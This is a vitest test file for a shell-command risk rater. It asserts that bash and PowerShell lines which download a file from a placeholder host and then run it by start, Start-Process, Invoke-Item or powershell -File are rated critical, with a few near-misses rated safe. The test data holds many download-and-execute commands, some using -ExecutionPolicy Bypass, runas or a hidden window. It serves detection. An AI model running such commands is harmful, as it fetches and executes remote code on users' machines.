import { describe, expect, it } from "vitest";
import { shellRater } from "../../test/helpers/shell-rated.js";
import type { Risk, ShellKind } from "./types.js";

/** A file the line downloads, run by a route other than its name: `start`, Start-Process, Invoke-Item, `powershell -File`. */
const rated = shellRater();

describe("a downloaded file started another way", () => {
  it.each<[ShellKind, string]>([
    ["bash", "cmd /c 'curl -o a.bat https://e.com/a & start a.bat'"],
    ["bash", "cmd /c 'curl -o a.bat https://e.com/a & start \"\" a.bat'"],
    ["bash", "cmd /c 'curl -o a.bat https://e.com/a & start \"setup\" /b /wait a'"],
    ["bash", "cmd /c 'curl -o a.bat https://e.com/a & start /d C:\\temp /min a.bat'"],
    ["powershell", "curl.exe -o a.bat https://e.com/a; Start-Process a.bat"],
    ["powershell", "curl.exe -o a.bat https://e.com/a; saps a.bat"],
    ["powershell", "curl.exe -o a.bat https://e.com/a; start a.bat -Wait"],
    ["powershell", "curl.exe -o a.bat https://e.com/a; Start-Process -FilePath .\\a.bat -Verb runas"],
    ["powershell", "iwr https://e.com/a -OutFile a.bat; Invoke-Item a.bat"],
    ["powershell", "iwr https://e.com/a -OutFile a.bat; ii .\\a.bat"],
    ["powershell", "iwr https://e.com/a -OutFile a.ps1; powershell -File a.ps1"],
    ["powershell", "iwr https://e.com/a -OutFile a.ps1; pwsh -ExecutionPolicy Bypass -File .\\a.ps1"],
    ["powershell", "iwr https://e.com/a -OutFile a.ps1; pwsh a.ps1"],
    ["bash", "cmd /c 'curl -o a.ps1 https://e.com/a & powershell -File a.ps1'"],
    ["bash", "cmd /c 'curl -o a.ps1 https://e.com/a & pwsh -File a.ps1'"],
    ["bash", "cmd /c 'curl -o a.ps1 https://e.com/a & powershell -ExecutionPolicy Bypass -File a.ps1'"],
    ["bash", "cmd /c 'curl -o a.ps1 https://e.com/a & powershell -NoProfile -WindowStyle Hidden .\\a.ps1'"],
  ])("%s: %j runs the download", (shell, command) => {
    const r = rated(command, shell);
    expect(r.risk, r.shown).toBe("critical");
    expect(r.details.join(" "), r.shown).toMatch(/downloads/);
  });

  it.each<[ShellKind, string, Risk]>([
    // Another file, or the title of the new window, is not the download.
    ["bash", "cmd /c 'curl -o a.bat https://e.com/a & start b.bat'", "safe"],
    ["bash", "cmd /c 'curl -o a.bat https://e.com/a & start \"a.bat\"'", "safe"],
    ["powershell", "curl.exe -o a.bat https://e.com/a; Start-Process notepad.exe", "safe"],
    ["powershell", "iwr https://e.com/a -OutFile a.ps1; powershell -File b.ps1", "safe"],
  ])("%s: %j is %s", (shell, command, risk) => {
    const r = rated(command, shell);
    expect(r.risk, r.shown).toBe(risk);
  });
});
